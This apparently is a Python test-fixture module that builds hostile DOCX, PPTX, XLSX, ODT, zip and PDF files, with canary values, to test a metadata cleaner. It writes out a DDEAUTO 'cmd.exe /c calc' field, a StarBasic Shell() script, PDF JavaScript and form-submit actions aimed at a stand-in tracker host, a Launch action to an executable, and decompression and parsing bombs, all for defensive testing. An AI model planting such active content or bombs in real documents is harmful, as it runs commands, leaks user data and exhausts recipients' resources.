"""Documents built to beat the cleaner: PDFs and office files that hide identifying
data where a deny-list does not look, or that cost a lot to take apart.

Every builder writes one file to the path it is given and returns nothing. The
values that must not survive cleaning are listed in ``CANARIES`` (search the output
with its zip members inflated and its PDF objects expanded). ``CASES`` names every
builder at full size, for benchmarks (bench/clean.py's hostile group, and
bench/hostile_documents.py for time and peak memory per case); tests call the
builders with smaller sizes and smaller :class:`~portal.cleaning.Limits`.

Built by hand where a library would refuse to write the file (zip central
directories, field markup) and with pikepdf for PDFs.
"""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.cleaning import docgen

# --- canaries -------------------------------------------------------------------------

USER_PATH = "C:\\Users\\jperez\\Documents\\carta.docx"
TEMPLATE_PATH = "C:\\Users\\jperez\\AppData\\Roaming\\Microsoft\\Plantillas\\Memo.dotm"
PICTURE_PATH = "C:\\Users\\jperez\\Pictures\\retén.jpg"
FILE_LINK = "file:///C:/Users/jperez/Documents/nomina.xlsx"
FIELD_AUTHOR = "Juana Perez Campo"
FIELD_USER = "jperez.campo"
FIELD_SAVER = "Joaquin Ruiz Guardo"
FIELD_COMPANY = "Transportes Canario SA"
FIELD_CREATED = "12/03/2024 9:41"
FIELD_SAVED = "13/03/2024 18:02"
FIELD_PRINTED = "14/03/2024 7:15"
FIELD_TODAY = "6 de mayo de 2024"
DDE_COMMAND = "cmd.exe /c calc"
SENDER_PHONE = "+52 656 555 0123"
SENDER_STREET = "Calle Canario 42"
SHEET_PATH = "C:\\Users\\jperez\\[libro.xlsx]Hoja1"
SHEET_NOW = "45418.3125"

PDF_PRIVATE = "./figures/secret-plan-canary.pdf"
PDF_PRIVATE_PRODUCER = "cairo 1.13.1 canary producer"
PDF_CATALOG_KEY = "catalog-canary-7781"
PDF_TRAILER_KEY = "trailer-canary-5512"
PDF_HIDDEN_XMP = "hidden-xmp-canary-9034"
PDF_OPEN_URL = "https://tracker.example.net/open-canary"
PDF_JS = "app.launchURL('https://tracker.example.net/js-canary')"
PDF_FORM_JS = "this.submitForm('https://tracker.example.net/form-canary')"
PDF_LAUNCH = "C:\\Windows\\System32\\launch-canary.exe"
PDF_REMOTE = "\\\\server\\share\\gotor-canary.pdf"
PDF_SUBMIT = "https://tracker.example.net/submit-canary"
PDF_OCG_CREATOR = "Layer canary creator"
PDF_ANNOT_STATE = "annotation-canary-state"

#: Values that must not be found in any cleaned output of the builders here.
CANARIES = (
    USER_PATH,
    "jperez",
    TEMPLATE_PATH,
    PICTURE_PATH,
    FILE_LINK,
    FIELD_AUTHOR,
    FIELD_USER,
    FIELD_SAVER,
    FIELD_COMPANY,
    FIELD_CREATED,
    FIELD_SAVED,
    FIELD_PRINTED,
    FIELD_TODAY,
    DDE_COMMAND,
    SENDER_PHONE,
    SENDER_STREET,
    SHEET_PATH,
    SHEET_NOW,
    PDF_PRIVATE,
    PDF_PRIVATE_PRODUCER,
    PDF_CATALOG_KEY,
    PDF_TRAILER_KEY,
    PDF_HIDDEN_XMP,
    PDF_OPEN_URL,
    "js-canary",
    "form-canary",
    "launch-canary",
    "gotor-canary",
    "submit-canary",
    PDF_OCG_CREATOR,
    PDF_ANNOT_STATE,
    docgen.AUTHOR,
    "Canon EOS 40D",
)

#: Text of the documents' own content, which cleaning keeps.
KEPT_TEXT = ("Page number", "the secret file", "https://example.org/fuente", "Informe")

# --- zip packages -----------------------------------------------------------------------


def _replace_members(
    src: Path, dst: Path, changes: dict[str, bytes], *, stored: bool = False
) -> None:
    """``src``'s members with ``changes`` written to ``dst``; the changed members
    ``stored`` (not compressed) if asked, so no compression ratio gives them away."""
    members = docgen.zip_members(src)
    members.update(changes)
    with zipfile.ZipFile(dst, "w") as zf:
        for index, (name, data) in enumerate(members.items()):
            info = zipfile.ZipInfo(name, date_time=(2024, 5, 6, 7, 8, 9))
            plain = (stored and name in changes) or (index == 0 and name == "mimetype")
            info.compress_type = zipfile.ZIP_STORED if plain else zipfile.ZIP_DEFLATED
            zf.writestr(info, data)


_W_NS = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
)


def _complex(instruction: str, result: str) -> str:
    """A complex field, each part in its own run as Word writes it."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {instruction} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _escape(value: str) -> str:
    return value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def fields_docx(path: Path) -> None:
    """A DOCX whose fields stored the author's name, user name, paths, dates and a
    DDE command; with harmless fields (page number, a web link) around them, a
    field nested in another, one in a text box and one run holding a whole field."""
    base = path.with_suffix(".base.docx")
    docgen.dirty_docx(base)
    body = "".join(
        [
            '<w:p><w:r><w:t xml:space="preserve">Page number </w:t></w:r>',
            _complex("PAGE", "3"),
            "</w:p><w:p>",
            f'<w:fldSimple w:instr=" FILENAME \\p "><w:r><w:t>{_escape(USER_PATH)}</w:t></w:r>'
            "</w:fldSimple>",
            _complex("AUTHOR \\* MERGEFORMAT", FIELD_AUTHOR),
            _complex("USERNAME", FIELD_USER),
            _complex("LASTSAVEDBY", FIELD_SAVER),
            _complex('DOCPROPERTY "Company"', FIELD_COMPANY),
            _complex('CREATEDATE \\@ "dd/MM/yyyy H:mm"', FIELD_CREATED),
            _complex("SAVEDATE", FIELD_SAVED),
            _complex("PRINTDATE", FIELD_PRINTED),
            _complex("TEMPLATE \\p", _escape(TEMPLATE_PATH)),
            _complex('DATE \\@ "d MMMM yyyy"', FIELD_TODAY),
            _complex(f'INCLUDEPICTURE "{_escape(PICTURE_PATH)}" \\d', "picture"),
            _complex(f"DDEAUTO {DDE_COMMAND}", "1"),
            "</w:p><w:p>",
            _complex('HYPERLINK "https://example.org/fuente"', "https://example.org/fuente"),
            _complex(f'HYPERLINK "{FILE_LINK}"', "the secret file"),
            # IF { AUTHOR } = "x": the nested field is in the instruction.
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            '<w:r><w:instrText xml:space="preserve"> IF </w:instrText></w:r>',
            _complex("AUTHOR", FIELD_AUTHOR),
            '<w:r><w:instrText xml:space="preserve"> = "x" "y" "z" </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>z</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
            # A whole field in one run, with private field data.
            '<w:r><w:fldChar w:fldCharType="begin"><w:fldData>'
            "SnVhbmEgUGVyZXo=</w:fldData></w:fldChar>"
            '<w:instrText xml:space="preserve"> USERNAME </w:instrText>'
            f'<w:fldChar w:fldCharType="separate"/><w:t>{FIELD_USER}</w:t>'
            '<w:fldChar w:fldCharType="end"/></w:r>',
            '</w:p><w:p><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing>'
            "<wps:txbx><w:txbxContent><w:p>",
            _complex("AUTHOR", FIELD_AUTHOR),
            "</w:p></w:txbxContent></wps:txbx></w:drawing></mc:Choice></mc:AlternateContent>"
            "</w:r><w:r><w:t>Informe</w:t></w:r></w:p>",
        ]
    )
    document = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document {_W_NS}>'
        f"<w:body>{body}<w:sectPr/></w:body></w:document>"
    ).encode()
    _replace_members(base, path, {"word/document.xml": document})
    base.unlink()


def fields_pptx(path: Path) -> None:
    """A PPTX slide with a slide number (kept) and a date field holding the date
    the author last saved it."""
    base = path.with_suffix(".base.pptx")
    docgen.dirty_pptx(base)
    slide = docgen.zip_members(base)["ppt/slides/slide1.xml"]
    fields = (
        '<a:p><a:r><a:t>Page number </a:t></a:r><a:fld id="{B6F15528-21DE-4FAA-801E-'
        '634DDDAF4B2B}" type="slidenum"><a:t>1</a:t></a:fld></a:p><a:p><a:fld '
        'id="{B6F15528-21DE-4FAA-801E-634DDDAF4B2C}" type="datetime1">'
        f"<a:t>{FIELD_TODAY}</a:t></a:fld></a:p>"
    ).encode()
    slide = slide.replace(b"</a:p></p:txBody>", b"</a:p>" + fields + b"</p:txBody>", 1)
    _replace_members(base, path, {"ppt/slides/slide1.xml": slide})
    base.unlink()


def fields_xlsx(path: Path) -> None:
    """An XLSX whose formulas cached the file's path on the author's computer
    (``CELL("filename")``, shared down a column) and the time of the last
    calculation (``NOW()``)."""
    base = path.with_suffix(".base.xlsx")
    docgen.dirty_xlsx(base)
    sheet = docgen.zip_members(base)["xl/worksheets/sheet1.xml"]
    rows = (
        '<row r="2"><c r="A2" t="str"><f t="shared" ref="A2:A3" si="0">CELL("filename",B1)'
        f"</f><v>{_escape(SHEET_PATH)}</v></c></row>"
        '<row r="3"><c r="A3" t="str"><f t="shared" si="0"/>'
        f"<v>{_escape(SHEET_PATH)}</v></c></row>"
        f'<row r="4"><c r="A4"><f>NOW()</f><v>{SHEET_NOW}</v></c>'
        '<c r="B4"><f>1+1</f><v>2</v></c></row>'
    ).encode()
    sheet = sheet.replace(b"</row>\n</sheetData>", b"</row>" + rows + b"\n</sheetData>", 1)
    _replace_members(base, path, {"xl/worksheets/sheet1.xml": sheet})
    base.unlink()


def fields_odt(path: Path) -> None:
    """An ODT whose text fields stored the author, the sender's address and phone,
    the file and template names, dates, a user-defined property, a DDE link and a
    script; with a page number and a fixed date (content) that stay."""
    base = path.with_suffix(".base.odt")
    docgen.dirty_odt(base)
    fields = (
        '<text:p>Page number <text:page-number text:select-page="current">2'
        "</text:page-number>"
        f"<text:initial-creator>{FIELD_AUTHOR}</text:initial-creator>"
        f"<text:creator>{FIELD_SAVER}</text:creator>"
        f"<text:printed-by>{FIELD_USER}</text:printed-by>"
        f'<text:creation-date text:date-value="2024-03-12">{FIELD_CREATED}</text:creation-date>'
        f"<text:modification-date>{FIELD_SAVED}</text:modification-date>"
        f"<text:print-date>{FIELD_PRINTED}</text:print-date>"
        f'<text:file-name text:display="full">{_escape(USER_PATH)}</text:file-name>'
        f"<text:template-name>{_escape(TEMPLATE_PATH)}</text:template-name>"
        f'<text:user-defined text:name="Empresa">{FIELD_COMPANY}</text:user-defined>'
        f"<text:sender-phone-private>{SENDER_PHONE}</text:sender-phone-private>"
        f"<text:sender-street>{SENDER_STREET}</text:sender-street>"
        f'<text:date text:date-value="2024-05-06">{FIELD_TODAY}</text:date>'
        '<text:date text:fixed="true" text:date-value="2023-01-02">Informe</text:date>'
        '<text:script script:language="StarBasic" xmlns:script="urn:oasis:names:tc:'
        f'opendocument:xmlns:script:1.0">Shell("{DDE_COMMAND}")</text:script>'
        '<text:dde-connection text:connection-name="link">x</text:dde-connection>'
        "</text:p>"
        '<text:dde-connection-decls><text:dde-connection-decl text:name="link" '
        'office:dde-application="soffice" office:dde-topic="'
        f'{_escape(FILE_LINK)}" office:dde-item="A1"/></text:dde-connection-decls>'
    ).encode()
    content = docgen.zip_members(base)["content.xml"]
    content = content.replace(b"</office:text>", fields + b"</office:text>", 1)
    _replace_members(base, path, {"content.xml": content})
    base.unlink()


def many_elements_docx(path: Path, count: int = 2_000_000) -> None:
    """A DOCX whose document.xml is ``count`` empty elements (2 million: 8 MB of XML),
    stored uncompressed so no compression ratio gives it away."""
    base = path.with_suffix(".base.docx")
    docgen.dirty_docx(base)
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document {_W_NS}><w:body>'.encode()
        + b"<a/>" * count
        + b"</w:body></w:document>"
    )
    _replace_members(base, path, {"word/document.xml": document}, stored=True)
    base.unlink()


def long_docx(path: Path, paragraphs: int = 300_000) -> None:
    """A DOCX of ``paragraphs`` numbered paragraphs of one run each (three elements
    apiece: 900,000 for the default, near the budget's million), compressed as usual."""
    base = path.with_suffix(".base.docx")
    docgen.dirty_docx(base)
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document {_W_NS}><w:body>'.encode()
        + b"".join(
            b"<w:p><w:r><w:t>Linea %d del informe</w:t></w:r></w:p>" % i for i in range(paragraphs)
        )
        + b"</w:body></w:document>"
    )
    _replace_members(base, path, {"word/document.xml": document})
    base.unlink()


def deep_docx(path: Path, depth: int = 100_000) -> None:
    """A DOCX whose document.xml nests ``depth`` elements inside each other (stored
    uncompressed)."""
    base = path.with_suffix(".base.docx")
    docgen.dirty_docx(base)
    document = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document {_W_NS}><w:body>'.encode()
        + b"<w:sdt>" * depth
        + b"</w:sdt>" * depth
        + b"</w:body></w:document>"
    )
    _replace_members(base, path, {"word/document.xml": document}, stored=True)
    base.unlink()


def _zip_records(name: bytes, data: bytes, offset: int) -> tuple[bytes, bytes]:
    """A stored member's local header with its data, and its central record."""
    crc = zlib.crc32(data)
    local = struct.pack(
        "<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 33, crc, len(data), len(data), len(name), 0
    )
    central = struct.pack(
        "<4s6H3L5H2L",
        b"PK\x01\x02",
        20,
        20,
        0,
        0,
        0,
        33,
        crc,
        len(data),
        len(data),
        len(name),
        0,
        0,
        0,
        0,
        0,
        offset,
    )
    return local + name + data, central + name


def many_entries_docx(path: Path, count: int = 300_000, *, claimed: int | None = None) -> None:
    """A zip that starts like a DOCX ([Content_Types].xml first) followed by
    ``count`` tiny members; its end record claims ``claimed`` entries (the true count
    unless given), as a liar would to slip past a check of that number."""
    base = path.with_suffix(".base.docx")
    docgen.dirty_docx(base)
    members = list(docgen.zip_members(base).items())
    base.unlink()
    members.sort(key=lambda item: item[0] != "[Content_Types].xml")
    members += [(f"x/{i}", b"") for i in range(count)]
    body, directory = bytearray(), bytearray()
    for name, data in members:
        local, central = _zip_records(name.encode(), data, len(body))
        body += local
        directory += central
    total = len(members) if claimed is None else claimed
    end = struct.pack(
        "<4s4H2LH",
        b"PK\x05\x06",
        0,
        0,
        min(total, 0xFFFF),
        min(total, 0xFFFF),
        len(directory),
        len(body),
        0,
    )
    path.write_bytes(bytes(body + directory + end))


# --- PDFs ------------------------------------------------------------------------------


def _font(pdf: pikepdf.Pdf) -> pikepdf.Dictionary:
    return pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )


def _form(pdf: pikepdf.Pdf, content: bytes, bbox: list[int], **extra: object) -> pikepdf.Stream:
    form = pdf.make_stream(content)
    form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, bbox
    for key, value in extra.items():
        form[f"/{key}"] = value
    return form


def _unreference(path: Path, key: bytes) -> None:
    """Blank the catalog entry ``key`` in the file's bytes (same length, so the
    cross-reference offsets stay right): the object it named stays in the file,
    listed, but nothing refers to it any more."""
    data = path.read_bytes()
    at = data.index(key)
    end = data.index(b" R", at) + 2
    path.write_bytes(data[:at] + b" " * (end - at) + data[end:])


def private_keys_pdf(path: Path) -> None:
    """A PDF as pdfTeX writes one with an included figure: the figure's form XObject
    carries /PTEX.FileName and /PTEX.InfoDict (its producer and date); plus a custom
    catalog key, a custom trailer key, XMP kept under an unusual key of the page, and a
    GPS-tagged JPEG that no page uses (still listed in the file)."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(300, 300))
    figure = _form(
        pdf,
        b"0 0 1 rg 10 10 80 80 re f",
        [0, 0, 100, 100],
        **{
            "PTEX.FileName": String(PDF_PRIVATE),
            "PTEX.PageNumber": 1,
            "PTEX.InfoDict": Dictionary(
                Producer=String(PDF_PRIVATE_PRODUCER), CreationDate=String(docgen.PDF_DATE)
            ),
        },
    )
    page.Resources = Dictionary(Font=Dictionary(F1=_font(pdf)), XObject=Dictionary(Fx=figure))
    page.Contents = pdf.make_stream(
        b"BT /F1 14 Tf 20 260 Td (Informe) Tj ET q 1 0 0 1 100 100 cm /Fx Do Q"
    )
    page.obj.MyMeta = pdf.make_stream(
        f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF>{PDF_HIDDEN_XMP}</rdf:RDF>'
        "</x:xmpmeta>".encode()
    )
    pdf.Root.CustomCatalog = String(PDF_CATALOG_KEY)
    pdf.trailer.CustomTrailer = String(PDF_TRAILER_KEY)
    photo = pikepdf.Stream(pdf, docgen.gps_jpeg())
    photo.Type, photo.Subtype, photo.Filter = Name.XObject, Name.Image, Name.DCTDecode
    photo.Width, photo.Height = 16, 16
    photo.ColorSpace, photo.BitsPerComponent = Name.DeviceRGB, 8
    pdf.Root.Unused = pdf.make_indirect(photo)
    pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    _unreference(path, b"/Unused")


def _link(rect: list[int], action: pikepdf.Dictionary) -> pikepdf.Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, Border=[0, 0, 0], A=action)


def actions_pdf(path: Path) -> None:
    """A PDF that acts when opened and when clicked: an /OpenAction calling a URL,
    page and document JavaScript, links running javascript:, launching a program,
    opening a remote file, submitting a form and naming a menu action, an attached
    file, a form field with scripts (its widget shows "Maria"), a note with author,
    dates and rich text, and a layer hidden by default whose creator is named. Two
    links stay: one to a web page, one to an e-mail address."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(300, 300))
    font = _font(pdf)
    hidden = pdf.make_indirect(
        Dictionary(
            Type=Name.OCG,
            Name=String("Notas"),
            Usage=Dictionary(CreatorInfo=Dictionary(Creator=String(PDF_OCG_CREATOR))),
        )
    )
    pdf.Root.OCProperties = Dictionary(
        OCGs=[hidden], D=Dictionary(OFF=[hidden], Creator=String(PDF_OCG_CREATOR))
    )
    page.Resources = Dictionary(Font=Dictionary(F1=font), Properties=Dictionary(L1=hidden))
    page.Contents = pdf.make_stream(
        b"BT /F1 14 Tf 20 260 Td (Informe) Tj ET "
        b"/OC /L1 BDC 1 0 0 rg 20 150 100 50 re f EMC "
        b"0 0 1 rg 20 20 40 40 re f"
    )
    field_look = _form(pdf, b"BT /F1 12 Tf 2 6 Td (Maria) Tj ET", [0, 0, 100, 20])
    field_look.Resources = Dictionary(Font=Dictionary(F1=font))
    widget = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            Rect=[150, 20, 250, 40],
            FT=Name.Tx,
            T=String("nombre"),
            V=String("Maria"),
            F=4,
            AP=Dictionary(N=field_look),
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(PDF_FORM_JS))),
        )
    )
    pdf.Root.AcroForm = Dictionary(Fields=[widget], DA=String("/Helv 0 Tf 0 g"))
    note_look = _form(pdf, b"1 1 0 rg 0 0 20 20 re f", [0, 0, 20, 20])
    attachment = pikepdf.AttachedFileSpec(pdf, docgen.ATTACHMENT, filename="nomina.txt").obj
    page.Annots = pdf.make_indirect(
        Array(
            [
                _link(
                    [20, 240, 120, 255],
                    Dictionary(S=Name.URI, URI=String("https://example.org/fuente")),
                ),
                _link(
                    [130, 240, 230, 255],
                    Dictionary(S=Name.URI, URI=String("mailto:editor@example.org")),
                ),
                _link(
                    [20, 220, 120, 235], Dictionary(S=Name.URI, URI=String(f"javascript:{PDF_JS}"))
                ),
                _link([130, 220, 230, 235], Dictionary(S=Name.Launch, F=String(PDF_LAUNCH))),
                _link(
                    [20, 200, 120, 215],
                    Dictionary(S=Name.GoToR, F=String(PDF_REMOTE), D=[0, Name.Fit]),
                ),
                _link([130, 200, 230, 215], Dictionary(S=Name.SubmitForm, F=String(PDF_SUBMIT))),
                _link([20, 180, 120, 195], Dictionary(S=Name.Named, N=Name.Print)),
                _link([130, 180, 230, 195], Dictionary(S=Name.JavaScript, JS=String(PDF_JS))),
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Text,
                    Rect=[260, 260, 280, 280],
                    Contents=String(docgen.NOTE),
                    T=String(docgen.AUTHOR),
                    M=String(docgen.PDF_DATE),
                    RC=String(f"<body><p>{docgen.AUTHOR}</p></body>"),
                    AP=Dictionary(N=note_look),
                    AA=Dictionary(E=Dictionary(S=Name.JavaScript, JS=String(PDF_JS))),
                ),
                widget,
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=[260, 20, 280, 40],
                    FS=attachment,
                ),
            ]
        )
    )
    page.obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String(PDF_JS)))
    pdf.Root.OpenAction = Dictionary(S=Name.URI, URI=String(PDF_OPEN_URL))
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(PDF_JS)))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
    pdf.save(path)


def many_objects_pdf(path: Path, count: int = 1_000_000) -> None:
    """A PDF whose cross-reference stream lists ``count`` tiny objects (10 MB), all
    reachable from a custom catalog key."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.Many = Array([pdf.make_indirect(Dictionary(N=i)) for i in range(count)])
    pdf.save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _hand_made_pdf(
    path: Path, catalog_extra: bytes, page_extra: bytes, objects: list[bytes]
) -> None:
    """A small PDF written by hand: catalog (1), page tree (2), page (3), then
    ``objects`` from number 4, and a classic cross-reference table."""
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] " + page_extra + b" >>",
        *objects,
    ]
    out, offsets = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, obj in enumerate(body, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref)
    path.write_bytes(bytes(out))


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def object_stream_bomb_pdf(path: Path, count: int = 5_000_000) -> None:
    """A 10 kB PDF whose page's font lists its widths in an array of ``count`` numbers,
    kept compressed in an object stream (10 MB of text, 700 MB once parsed)."""
    numbers = b"[" + b"0 " * count + b"]"
    header = b"5 0 "
    packed = zlib.compress(header + numbers, 9)
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FirstChar 0 /Widths 5 0 R >>"
    objstm = _stream(packed, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % len(header))
    # Object 5 lives in the object stream (6): a cross-reference stream says so.
    pdf = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, obj in (
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] "
            b"/Resources << /Font << /F1 4 0 R >> >> >>"),
        (4, font),
        (6, objstm),
    ):  # fmt: skip
        offsets[number] = len(pdf)
        pdf += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref_at = len(pdf)
    rows = [(0, 0, 65535)] + [(1, offsets[n], 0) for n in (1, 2, 3, 4)] + [(2, 6, 0)]
    rows += [(1, offsets[6], 0), (1, xref_at, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    pdf += b"7 0 obj\n" + _stream(table, b"/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R")
    pdf += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    path.write_bytes(bytes(pdf))


def big_array_pdf(path: Path, count: int = 3_000_000) -> None:
    """A PDF whose page's font lists its widths in an uncompressed array of ``count``
    numbers in the file's body (6 MB of text, over 400 MB once parsed)."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FirstChar 0 /Widths 5 0 R >>"
    _hand_made_pdf(
        path,
        b"",
        b"/Resources << /Font << /F1 4 0 R >> >>",
        [font, b"[" + b"0 " * count + b"]"],
    )


def content_bomb_pdf(path: Path, lines: int = 2_000_000) -> None:
    """A PDF whose page draws ``lines`` zero-length lines and then an inline image:
    42 kB of file, 12 MB of content to parse into instructions."""
    content = b"0 0 m 0 0 l S\n" * lines + b"BI /W 1 /H 1 /CS /G /BPC 8 ID \x80 EI\n"
    packed = zlib.compress(content, 9)
    _hand_made_pdf(path, b"", b"/Contents 4 0 R", [_stream(packed, b"/Filter /FlateDecode")])


#: Every hostile document at full size, by name: ``builder(path)``.
CASES: dict[str, Callable[[Path], None]] = {
    "docx-fields": fields_docx,
    "pptx-fields": fields_pptx,
    "xlsx-formulas": fields_xlsx,
    "odt-fields": fields_odt,
    "docx-2M-elements": many_elements_docx,
    "docx-deep-100k": deep_docx,
    "docx-300k-entries": many_entries_docx,
    "docx-300k-entries-end-says-5": lambda path: many_entries_docx(path, claimed=5),
    "pdf-private-keys": private_keys_pdf,
    "pdf-actions": actions_pdf,
    "pdf-1M-objects": many_objects_pdf,
    "pdf-object-stream-bomb": object_stream_bomb_pdf,
    "pdf-3M-array": big_array_pdf,
    "pdf-content-bomb": content_bomb_pdf,
    # The most work the budget lets through (or nearly): how long and how much memory
    # a file that is not refused can cost.
    "docx-900k-elements": long_docx,
    "pdf-object-stream-1.9M-numbers": lambda path: object_stream_bomb_pdf(path, 1_900_000),
}
